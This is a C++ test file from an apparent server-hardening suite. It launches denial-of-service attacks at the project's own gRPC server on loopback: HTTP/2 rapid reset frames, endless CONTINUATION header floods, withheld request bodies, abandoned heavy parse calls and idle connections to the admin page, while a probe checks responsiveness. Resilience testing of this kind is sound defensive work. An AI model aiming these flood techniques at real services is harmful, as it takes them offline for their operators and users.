#include <grpcpp/grpcpp.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <functional>
#include <memory>
#include <thread>

#include "common/base/clock.h"
#include "common/base/mutex.h"
#include "common/rpc/client.h"
#include "duban/v1/plan_service.grpc.pb.h"
#include "tests/attack/attack.h"
#include "tests/attack/raw_http2.h"
#include "tests/attack/victim.h"

namespace duban::testing {
namespace {

constexpr char kGetUnit[] = "/duban.v1.DirectoryService/GetUnit";

// Runs `attacker` on so many threads, each until it is told to stop, with a probe beside them; then stops the victim,
// while they go on where `to_the_end`.
class Siege {
 public:
  using Attacker = std::function<void(Victim& victim, const std::atomic<bool>& stop)>;

  Siege(std::string name, const AttackOptions& options) : victim_(options.flags), time_(options.time) {
    verdict_.attack = std::move(name);
  }

  Verdict Run(int threads, bool fresh_probe, bool to_the_end, const Attacker& attacker) {
    std::atomic<bool> stop{false};
    std::vector<std::thread> attackers;
    for (int i = 0; i < threads; ++i) attackers.emplace_back([&] { attacker(victim_, stop); });
    Probe probe(victim_.address(), fresh_probe);
    Pause(time_);
    verdict_.probe = probe.Finish();
    const auto end = [&] {
      stop = true;
      for (std::thread& thread : attackers) thread.join();
    };
    if (!to_the_end) end();
    verdict_.peak_mib = victim_.peak_mib();
    verdict_.drain = victim_.Stop(&verdict_.exit_code);
    if (to_the_end) end();
    verdict_.attempts = attempts_;
    verdict_.hung_up = hung_up_;
    return verdict_;
  }

  static void Pause(absl::Duration time) {
    Mutex mu;
    MutexLock lock(&mu);
    const bool never = false;
    RealClock().AwaitWithTimeout(&mu, absl::Condition(&never), time);
  }

  std::atomic<int64_t> attempts_{0}, hung_up_{0};

 private:
  Victim victim_;
  const absl::Duration time_;
  Verdict verdict_;
};

// One line without a single task in it: what takes the reader longest.
std::string LargestDocument() {
  std::string text;
  const std::string words = "做好各项工作并形成材料{";
  while (text.size() + words.size() < (3 << 20) - 1000) text += words;
  return text;
}

}  // namespace

Verdict AbandonHeavyCalls(const AttackOptions& options) {
  Siege siege("abandoned heavy calls", options);
  v1::ParsePlanRequest request;
  request.set_source_name("plan.txt");
  request.set_content(LargestDocument());
  return siege.Run(64, /*fresh_probe=*/false, /*to_the_end=*/true, [&](Victim& victim, const std::atomic<bool>& stop) {
    grpc::ChannelArguments arguments;
    arguments.SetInt(GRPC_ARG_USE_LOCAL_SUBCHANNEL_POOL, 1);
    arguments.SetInt(GRPC_ARG_ENABLE_RETRIES, 0);
    auto stub = v1::PlanService::NewStub(
        grpc::CreateCustomChannel(victim.address(), grpc::InsecureChannelCredentials(), arguments));
    while (!stop) {
      grpc::ClientContext context;
      context.set_deadline(absl::ToChronoTime(RealClock().Now() + absl::Milliseconds(400)));
      v1::Plan plan;
      ++siege.attempts_;
      if (!stub->ParsePlan(&context, request, &plan).ok()) Siege::Pause(absl::Milliseconds(10));
    }
  });
}

Verdict ResetRapidly(const AttackOptions& options, bool whole) {
  Siege siege(whole ? "rapid reset of whole requests" : "rapid reset", options);
  return siege.Run(4, /*fresh_probe=*/true, /*to_the_end=*/false, [&](Victim& victim, const std::atomic<bool>& stop) {
    const std::string headers = CallHeaders(kGetUnit);
    const std::string body = GrpcMessage("\x0A\x08units/u1");
    while (!stop) {
      RawHttp2 connection(victim.port());
      while (!stop) {
        std::string frames;
        for (int i = 0; i < 100; ++i) {
          const uint32_t stream = connection.NextStream();
          frames += HeadersFrame(stream, headers, /*ends_block=*/true);
          if (whole) frames += DataFrame(stream, body, /*ends_stream=*/true);
          frames += ResetFrame(stream);
        }
        siege.attempts_ += 100;
        if (connection.Send(frames)) continue;
        ++siege.hung_up_;
        break;
      }
    }
  });
}

Verdict SendEndlessHeaders(const AttackOptions& options) {
  Siege siege("endless headers", options);
  return siege.Run(4, /*fresh_probe=*/true, /*to_the_end=*/false, [&](Victim& victim, const std::atomic<bool>& stop) {
    std::string block;
    for (int i = 0; block.size() < 16'000; ++i) block += HeaderField("x-" + std::to_string(i), std::string(100, 'x'));
    while (!stop) {
      RawHttp2 connection(victim.port());
      const uint32_t stream = connection.NextStream();
      bool sent = connection.Send(HeadersFrame(stream, CallHeaders(kGetUnit), /*ends_block=*/false));
      while (!stop && sent) {
        sent = connection.Send(ContinuationFrame(stream, block));
        ++siege.attempts_;
      }
      if (!sent) ++siege.hung_up_;
    }
  });
}

Verdict WithholdBodies(const AttackOptions& options) {
  Siege siege("bodies that never come", options);
  return siege.Run(8, /*fresh_probe=*/true, /*to_the_end=*/true, [&](Victim& victim, const std::atomic<bool>& stop) {
    const std::string headers = CallHeaders(kGetUnit);
    std::vector<std::unique_ptr<RawHttp2>> connections;
    for (int i = 0; i < 10; ++i) {
      connections.push_back(std::make_unique<RawHttp2>(victim.port()));
      std::string frames;
      for (int call = 0; call < 1100; ++call) {
        frames += HeadersFrame(connections.back()->NextStream(), headers, /*ends_block=*/true);
      }
      siege.attempts_ += 1100;
      if (!connections.back()->Send(frames)) ++siege.hung_up_;
    }
    while (!stop) Siege::Pause(absl::Milliseconds(20));
  });
}

Verdict IdleAtTheAdminPage(const AttackOptions& options) {
  Victim victim(options.flags);
  const auto connect_to_page = [&] {
    sockaddr_in to{};
    to.sin_family = AF_INET;
    to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    to.sin_port = htons(static_cast<uint16_t>(victim.admin_port()));
    const int made = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    return connect(made, reinterpret_cast<sockaddr*>(&to), sizeof to) == 0 ? made : -1;
  };
  Verdict verdict;
  verdict.attack = "idle at the admin page";
  std::vector<int> idle;
  for (int i = 0; i < 40; ++i) idle.push_back(connect_to_page());
  std::vector<absl::Duration> waits;
  const absl::Duration end = RealClock().Steady() + options.time;
  while (RealClock().Steady() < end) {
    const absl::Duration begin = RealClock().Steady();
    const int asking = connect_to_page();
    char answer[64] = "";
    const std::string request = "GET /livez HTTP/1.1\r\nHost: x\r\n\r\n";
    const bool answered = write(asking, request.data(), request.size()) > 0 &&
                          read(asking, answer, sizeof answer) > 0 && std::string(answer).starts_with("HTTP/1.1 200");
    close(asking);
    waits.push_back(RealClock().Steady() - begin);
    ++(answered ? verdict.probe.answered : verdict.probe.failed);
    ++verdict.attempts;
    Siege::Pause(absl::Milliseconds(20));
  }
  std::sort(waits.begin(), waits.end());
  verdict.probe.median = waits[waits.size() / 2];
  verdict.probe.worst = waits.back();
  for (const int connection : idle) close(connection);
  verdict.peak_mib = victim.peak_mib();
  verdict.drain = victim.Stop(&verdict.exit_code);
  return verdict;
}

}  // namespace duban::testing
